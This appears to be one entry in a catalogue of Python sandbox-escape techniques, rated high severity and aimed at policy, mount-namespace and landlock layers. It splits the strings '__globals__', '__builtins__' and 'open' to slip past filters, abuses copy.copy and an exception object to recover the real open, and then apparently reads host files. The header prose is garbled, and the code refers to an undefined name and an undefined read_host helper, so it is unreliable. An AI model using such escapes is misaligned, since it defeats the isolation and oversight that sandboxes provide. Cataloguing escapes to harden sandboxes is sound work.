# technique: the error of a library that updates a type's table carries the table
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy
import json

key = "__glo" + "bals__"

def by_table(table):
    """The real open, by the descriptors that the table of functions holds."""
    return table[key].__get__(json.dumps)["__built" + "ins__"]["op" + "en"]

class Deputy:
    def __reduce_ex__(self, protocol):
        return (lambda: type(won), (), {"x": 1})

def trick():
    try:
        copy.copy(Deputy())
    except AttributeError as e:
        return by_table(e.obj)

read_host(trick)
